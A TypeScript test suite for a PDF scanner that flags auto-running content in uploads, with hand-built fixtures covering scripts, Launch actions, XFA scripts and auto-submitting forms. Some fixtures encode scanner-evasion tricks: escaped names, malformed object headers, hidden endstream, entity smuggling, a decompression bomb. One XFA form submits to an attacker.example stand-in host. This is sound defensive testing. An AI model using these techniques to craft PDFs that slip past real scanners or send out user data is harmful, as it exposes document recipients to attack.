import { deflateSync } from 'node:zlib';
import { PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { PDF_LIMITS, inspectPdf } from './pdf-content.ts';
import {
  ENCRYPTED,
  OPEN_ACTION_SCRIPT,
  actionBehind,
  compressedScript,
  endstreamInside,
  formWithAttachment,
  handMade,
  headedBy,
  latin1,
  launchLink,
  linkPdf,
  madePdf,
  namedScript,
  NAMED_LIKE_ACTIONS,
  printedLinks,
} from './test-pdfs.ts';

/** An object stream holding `objects` as object numbers from `from`: deflated, or as they are under another filter. */
function objectStream(from: number, objects: string[], filter = '/FlateDecode'): Buffer {
  const index: string[] = [];
  let offset = 0;
  for (const [i, o] of objects.entries()) {
    index.push(`${from + i} ${offset}`);
    offset += o.length + 1;
  }
  const head = `${index.join(' ')} `;
  const body = latin1(head + objects.join(' '));
  const data = filter === '/FlateDecode' ? deflateSync(body) : body;
  return Buffer.concat([
    latin1(`<</Type/ObjStm/N ${objects.length}/First ${head.length}/Filter${filter}/Length ${data.length}>>stream\n`),
    data,
    latin1('\nendstream'),
  ]);
}
const CATALOG = '<</Type/Catalog/Pages 2 0 R>>';
const PAGES = '<</Type/Pages/Kids[]/Count 0>>';

describe('a PDF with something that runs', () => {
  it('is found by its script, program or document-level script, in plain sight or in an object stream', async () => {
    expect(await inspectPdf(OPEN_ACTION_SCRIPT)).toEqual({ kind: 'active', found: 'JavaScript' });
    expect(await inspectPdf(await compressedScript())).toEqual({ kind: 'active', found: 'JavaScript' });
    expect(await inspectPdf(await launchLink())).toEqual({ kind: 'active', found: 'Launch' });
    expect(await inspectPdf(await namedScript())).toEqual({ kind: 'active', found: 'JavaScript' });
  });

  it('is found whatever case its names are escaped in', async () => {
    // /J#61vaScript is /JavaScript; #4a#53 in lower case is /JS, which pdf-lib would not have decoded.
    expect(await inspectPdf(handMade('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/J#61vaScript/JS(x)>>'))).toEqual({
      kind: 'active',
      found: 'JavaScript',
    });
    // A rendition action runs its /JS without the /JavaScript name.
    expect(await inspectPdf(handMade(CATALOG, PAGES, '<</S/Rendition/#4a#53(app.alert(1))>>'))).toEqual({
      kind: 'active',
      found: 'JS',
    });
  });

  it('is found when a viewer takes an action by itself other than moving within the document', async () => {
    const onOpen = (action: Record<string, unknown>) =>
      madePdf((doc, context) => doc.catalog.set(PDFName.of('OpenAction'), context.obj(action as never)));
    const uri = await onOpen({ S: 'URI', URI: PDFString.of('https://example.org/seen') });
    expect(await inspectPdf(uri)).toEqual({ kind: 'active', found: 'URI action that runs by itself' });
    // A page's additional action when it opens, reached through a chain of next actions.
    const chained = handMade(
      CATALOG,
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/AA<</O 4 0 R>>>>',
      '<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R]>>',
      '<</S/SubmitForm/F(https://example.org/seen)>>',
    );
    expect(await inspectPdf(chained)).toEqual({ kind: 'active', found: 'SubmitForm action that runs by itself' });
  });

  /** A PDF whose form is XFA, its packets each a deflated stream. */
  const xfa = (...packets: Array<string | Uint8Array>) =>
    madePdf((doc, context) =>
      doc.catalog.set(
        PDFName.of('AcroForm'),
        context.obj({
          Fields: [],
          XFA: packets.flatMap((packet, i) => [
            PDFString.of(`packet${i}`),
            context.register(context.flateStream(packet)),
          ]),
        }),
      ),
    );
  const script = '<template><subform><event activity="initialize"><script>app.alert(1)</script></event>';
  const utf16 = (text: string, order: 'le' | 'be', mark = true) => {
    const bytes = Buffer.from(`${mark ? '\ufeff' : ''}${text}`, 'utf16le');
    return order === 'le' ? bytes : bytes.swap16();
  };

  it('is found in an XFA form script', async () => {
    expect(await inspectPdf(await xfa(`<xdp:xdp>${script}</subform></template></xdp:xdp>`))).toEqual({
      kind: 'active',
      found: 'XFA script',
    });
    expect(await inspectPdf(await xfa('<xdp:xdp><template><subform/></template></xdp:xdp>'))).toEqual({
      kind: 'clean',
    });
  });

  it('is found in an XFA form in UTF-16, split across packets, or under any prefix', async () => {
    const form = `<?xml version="1.0" encoding="UTF-16"?><xdp:xdp>${script}</subform></template></xdp:xdp>`;
    for (const packets of [
      [utf16(form, 'le')],
      [utf16(form, 'be')],
      [utf16(form, 'le', false)],
      [utf16(form, 'be', false)],
      ['<xdp:xdp><template><subform><event activity="initialize"><scr', 'ipt>app.alert(1)</script></event>'],
      ['<xdp:xdp><template><subform><event activity="initialize"><ü:script>app.alert(1)</ü:script></event>'],
    ])
      expect(await inspectPdf(await xfa(...packets))).toEqual({ kind: 'active', found: 'XFA script' });
    const plain = '<?xml version="1.0" encoding="UTF-16"?><xdp:xdp><template><subform/></template></xdp:xdp>';
    expect(await inspectPdf(await xfa(utf16(plain, 'le')))).toEqual({ kind: 'clean' });
    expect(await inspectPdf(await xfa(Buffer.from(`\ufeff${plain.replace('UTF-16', 'UTF-8')}`)))).toEqual({
      kind: 'clean',
    });
  });

  it('is found in an XFA form that submits itself, on opening or on any event', async () => {
    const submit = '<submit format="xml" target="https://attacker.example/collect"/>';
    for (const form of [
      `<xdp:xdp><template><subform><event activity="initialize">${submit}</event></subform></template></xdp:xdp>`,
      `<xdp:xdp><template><subform><event activity="docReady"><execute connection="c"/></event></subform></template></xdp:xdp>`,
    ])
      expect(await inspectPdf(await xfa(form))).toEqual({ kind: 'active', found: 'XFA submission' });
  });

  it('leaves unchecked an XFA form that declares entities, or is in an encoding it does not read', async () => {
    const entity =
      '<?xml version="1.0"?><!DOCTYPE xdp [<!ENTITY s "&#60;script&#62;app.alert(1)&#60;/script&#62;">]>' +
      '<xdp:xdp><template><subform><event activity="initialize">&s;</event></subform></template></xdp:xdp>';
    expect(await inspectPdf(await xfa(entity))).toEqual({
      kind: 'unchecked',
      why: 'an XFA form declares a document type',
    });
    const form = `<xdp:xdp>${script}</subform></template></xdp:xdp>`;
    const utf32 = Buffer.alloc(4 * (form.length + 1));
    [...`\ufeff${form}`].forEach((ch, i) => utf32.writeUInt32LE(ch.codePointAt(0)!, 4 * i));
    for (const packets of [
      [utf32],
      ['<xdp:xdp>', utf16(`${script}</subform></template></xdp:xdp>`, 'le', false).subarray(1)],
    ])
      expect(await inspectPdf(await xfa(...packets))).toEqual({
        kind: 'unchecked',
        why: 'an XFA form is in an encoding this reader does not read',
      });
  });

  it('is found when an object header holds comments, which are white space (ISO 32000 §7.2.3)', async () => {
    const commented = headedBy((num) => (num === 1 ? `${num} 0 %c\nobj` : `${num} %a\n%b\n0%c\r\nobj`));
    for (const [catalog, found] of [
      [
        '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://example.org/seen)>>>>',
        'URI action that runs by itself',
      ],
      ['<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Rendition/OP 4/JS(app.alert\\(1\\))>>>>', 'JS'],
    ])
      expect(await inspectPdf(commented(catalog!, PAGES))).toEqual({ kind: 'active', found });
    const pageOpens = commented(
      CATALOG,
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/AA<</O<</S/URI/URI(https://example.org/seen)>>>>>>',
    );
    expect(await inspectPdf(pageOpens)).toEqual({ kind: 'active', found: 'URI action that runs by itself' });
    // Read from the `3`, this is object 3's header: its comment starts at the second `%`, not the first.
    const secondPercent = headedBy((num) => (num === 3 ? '9 9 %a 3 0 %b\nobj' : `${num} 0 obj`))(
      '<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>',
      PAGES,
      '<</S/URI/URI(https://example.org/seen)>>',
    );
    expect(await inspectPdf(secondPercent)).toEqual({ kind: 'active', found: 'URI action that runs by itself' });
  });

  it('is found behind every object header pdf.js reads, however its numbers are written', async () => {
    // The hunt's file: `4 0obj` is `4 0 obj` to pdf.js, which runs the script; a parenthesis in a comment, or in a
    // stream's data, made the raw search take the rest of the file for a string.
    const hunted = actionBehind((num) => `${num} 0obj`, { before: '%(\n' });
    expect(await inspectPdf(hunted)).toEqual({ kind: 'active', found: 'JavaScript' });
    const inStream = actionBehind((num) => `${num} 0obj`, { contents: latin1('q\n\x00(\xff\x01 BT ET\nQ') });
    expect(await inspectPdf(inStream)).toEqual({ kind: 'active', found: 'JavaScript' });
    // An action no raw search finds is judged by the parser alone: it must read each header as pdf.js does (its
    // lexer's numbers: signs, points, exponents, line breaks after a sign; `obj` or a sign ends a number).
    const uri = '<< /S /URI /URI (https://example.org/seen) >>';
    for (const header of [
      '4 0obj',
      '4\n0obj',
      '4 %c\n0obj',
      '004 00obj',
      '+4 +0 obj',
      '4.0 0.0 obj',
      '4+0obj',
      '4.0.0obj',
      '40e-1 0 obj',
      '4 +\n0 obj',
      '4 + obj',
    ])
      expect(await inspectPdf(actionBehind(() => header, { action: uri })), header).toEqual({
        kind: 'active',
        found: 'URI action that runs by itself',
      });
    const rendition = actionBehind(() => '4 0obj', { action: '<< /S /Rendition /OP 4 /JS (app.alert\\(1\\)) >>' });
    expect(await inspectPdf(rendition)).toEqual({ kind: 'active', found: 'JS' });
  });

  it('is found in every definition of an object, not only the last one', async () => {
    // An update later in the file redefines object 3 without the script; a viewer whose cross-reference table
    // names the first definition runs it. pdf-lib keeps only the last.
    const pdf = handMade(
      '<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>',
      PAGES,
      '<</S/URI/URI(https://example.org/seen)>>',
    );
    const updated = Buffer.concat([pdf, latin1('3 0 obj<</S/GoTo/D[0/Fit]>>endobj\n%%EOF\n')]);
    expect(await inspectPdf(updated)).toEqual({ kind: 'active', found: 'URI action that runs by itself' });
  });

  it('is found past the text endstream inside a stream whose /Length is a reference', async () => {
    const print = { kind: 'active', found: 'Named action that runs by itself' };
    expect(await inspectPdf(endstreamInside('objectStream', (data) => [data.length]))).toEqual(print);
    // Every definition of the length counts; a viewer may read the longer one.
    const cut = (data: Buffer) => data.indexOf('endstream');
    expect(await inspectPdf(endstreamInside('objectStream', (data) => [cut(data), data.length]))).toEqual(print);
    // With no length to go by, deflated data ends where it says, not at the first `endstream`.
    expect(await inspectPdf(endstreamInside('objectStream', () => []))).toEqual(print);
    expect(await inspectPdf(endstreamInside('xfa', (data) => [data.length]))).toEqual({
      kind: 'active',
      found: 'XFA script',
    });
    expect(await inspectPdf(endstreamInside('xfa', () => []))).toEqual({ kind: 'active', found: 'XFA script' });
  });

  it('is found in an object stream that follows a broken object', async () => {
    // The unclosed string would swallow the object stream for a reader that goes from one object to the next;
    // a viewer reads the object stream from its own offset.
    const pdf = handMade('<</Type/Catalog/Title(never closed', objectStream(3, ['<</S/Rendition/JS(app.alert(1))>>']));
    expect(await inspectPdf(pdf)).toEqual({ kind: 'active', found: 'JS' });
  });
});

describe('a PDF with nothing that runs', () => {
  it('is clean: a form, an attached file, a link to a web page, a first page to open at', async () => {
    expect(await inspectPdf(await formWithAttachment())).toEqual({ kind: 'clean' });
    const link = await linkPdf({ S: 'URI', URI: PDFString.of('https://www.gov.sg') });
    expect(await inspectPdf(link)).toEqual({ kind: 'clean' });
    const opensAtPage = await madePdf((doc, context) =>
      doc.catalog.set(PDFName.of('OpenAction'), context.obj([doc.getPage(0).ref, 'Fit'])),
    );
    expect(await inspectPdf(opensAtPage)).toEqual({ kind: 'clean' });
    const goTo = await madePdf((doc, context) =>
      doc.catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoTo', D: [doc.getPage(0).ref, 'Fit'] })),
    );
    expect(await inspectPdf(goTo)).toEqual({ kind: 'clean' });
    const lastPage = handMade('<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Named/N/LastPage>>>>', PAGES);
    expect(await inspectPdf(lastPage)).toEqual({ kind: 'clean' });
    const print = handMade('<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Named/N/Print>>>>', PAGES);
    expect(await inspectPdf(print)).toEqual({ kind: 'active', found: 'Named action that runs by itself' });
  });

  it('is clean when the names of scripts, programs or encryption are text: a web address, a title', async () => {
    expect(await inspectPdf(printedLinks())).toEqual({ kind: 'clean' });
    for (const uri of NAMED_LIKE_ACTIONS)
      expect(await inspectPdf(await linkPdf({ S: 'URI', URI: PDFString.of(uri) })), uri).toEqual({ kind: 'clean' });
  });

  it('is still found in a string the raw scan passes over, by the parser or past an object it gave up on', async () => {
    // Read from the file's start, the stray parenthesis opens a string to the end: the parser reads object 2.
    const stray = handMade(`${CATALOG} (`, '<</S/Launch/F(calc.exe)>>');
    expect(await inspectPdf(stray)).toEqual({ kind: 'active', found: 'Launch' });
    // The parser gives up on both objects; a viewer may read the second one, and the raw scan finds its name.
    const unclosed = handMade('<</Type/Catalog/Title(never closed', '<</A ] /S/Launch/F(calc.exe)>>');
    expect(await inspectPdf(unclosed)).toEqual({ kind: 'active', found: 'Launch' });
  });

  it('is still found past a parenthesis the parser did not read as a string, whatever header its object has', async () => {
    // Object 4's header is none to this reader (pdf.js reads `obj4` as the number 4): it stands for any header a
    // viewer reads and the parser misses. Its script's name counts, as it does with no parenthesis before it.
    const missed = (num: number) => `${num} 0 obj4`;
    const script = { kind: 'active', found: 'JavaScript' };
    const catalog = '<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>';
    const streamed = (data: string) => `<</Length ${data.length}>>stream\n${data}\nendstream`;
    expect(await inspectPdf(actionBehind(missed))).toEqual(script);
    // In a comment, and in a stream's data, the parenthesis opens no string to the parser.
    expect(await inspectPdf(actionBehind(missed, { before: '%(\n' }))).toEqual(script);
    const stream = latin1('q\n\x00(\xff\x01 BT ET\nQ');
    expect(await inspectPdf(actionBehind(missed, { contents: stream }))).toEqual(script);
    // In a string the parser read, which holds the object: it is passed over only up to the header's `obj`.
    const inString = handMade(catalog, PAGES, '<</Title(4 0 obj4 <</S/JavaScript/JS(app.alert\\(1\\))>> endobj)>>');
    expect(await inspectPdf(inString)).toEqual(script);
    // In a stream's data after such a header, an `obj` within the stream: what follows may be read as no string.
    const inData = handMade(catalog, PAGES, streamed('4 0 obj4 %(\n<</S/JavaScript/JS(app.alert(1))>> endobj'));
    expect(await inspectPdf(inData)).toEqual(script);
    // Object 4's string runs on over object 3, read whole, and ends in its data, where object 4 goes on: an `obj`
    // outside the objects read whole that the parser did not take for a header may start such a reading.
    const spanning = latin1(
      `%PDF-1.7\n1 0 obj\n${catalog}\nendobj\n2 0 obj\n${PAGES}\nendobj\n4 0 obj4 <</S/URI/URI(\n` +
        `3 0 obj\n${streamed(')\n%(\n/S/JavaScript/JS(app.alert(1))>>')}\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
    );
    expect(await inspectPdf(spanning)).toEqual(script);
    // A web address in a link read whole after a stray parenthesis in a stream is still text.
    const linked = handMade(
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[5 0 R]>>',
      Buffer.concat([latin1(`<</Length ${stream.length}>>stream\n`), stream, latin1('\nendstream')]),
      `<</Type/Annot/Subtype/Link/Rect[72 600 300 620]/A<</S/URI/URI(${NAMED_LIKE_ACTIONS[0]})>>>>`,
    );
    expect(await inspectPdf(linked)).toEqual({ kind: 'clean' });
  });

  it('is clean when nothing in it can be parsed: judged by its first bytes, as before', async () => {
    expect(await inspectPdf(latin1('%PDF-1.4\nnot really a PDF at all\n'))).toEqual({ kind: 'clean' });
  });
});

describe('a PDF that cannot be checked', () => {
  it('is encrypted when its trailer says so: its streams and object streams cannot be read', async () => {
    expect(await inspectPdf(ENCRYPTED)).toEqual({ kind: 'encrypted' });
    const xrefStream = handMade(
      CATALOG,
      PAGES,
      '<</Filter/Standard/V 1/R 2/O<00>/U<00>/P -4>>',
      '<</Type/XRef/Size 5/W[1 1 1]/Root 1 0 R/Encrypt 3 0 R/Length 0>>stream\n\nendstream',
    );
    expect(await inspectPdf(xrefStream)).toEqual({ kind: 'encrypted' });
  });

  it('is unchecked when an object stream uses a filter the reader does not read, or cannot be parsed', async () => {
    const hex = handMade(CATALOG, objectStream(3, ['<<>>'], '/ASCIIHexDecode'));
    expect(await inspectPdf(hex)).toMatchObject({ kind: 'unchecked' });
    // A dictionary the parser gives up on: its /ObjStm is seen in the bytes, its stream not read.
    const broken = handMade(CATALOG, objectStream(3, ['<<>>']).toString('latin1').replace('/Type', '/Type)'));
    expect(await inspectPdf(broken)).toEqual({
      kind: 'unchecked',
      why: 'an object stream could not be read',
    });
  });

  it('is unchecked past the bound on inflated bytes', async () => {
    const huge = deflateSync(Buffer.alloc(PDF_LIMITS.decodedBytes + 1, 0x20));
    const bomb = Buffer.concat([
      latin1(`<</Type/ObjStm/N 1/First 2/Filter/FlateDecode/Length ${huge.length}>>stream\n`),
      huge,
      latin1('\nendstream'),
    ]);
    expect(await inspectPdf(handMade(CATALOG, bomb))).toEqual({
      kind: 'unchecked',
      why: 'past the bound on inflated bytes',
    });
  });

  it('is unchecked past the bound on bytes parsed', async () => {
    // Each header inside the unclosed strings starts an object read to the end of the file: read from every
    // one, the work would grow with the square of the file's size.
    const nested = handMade(`(${'9 0 obj ('.repeat(200_000)}`);
    expect(await inspectPdf(nested)).toEqual({ kind: 'unchecked', why: 'too much to read' });
  });
});
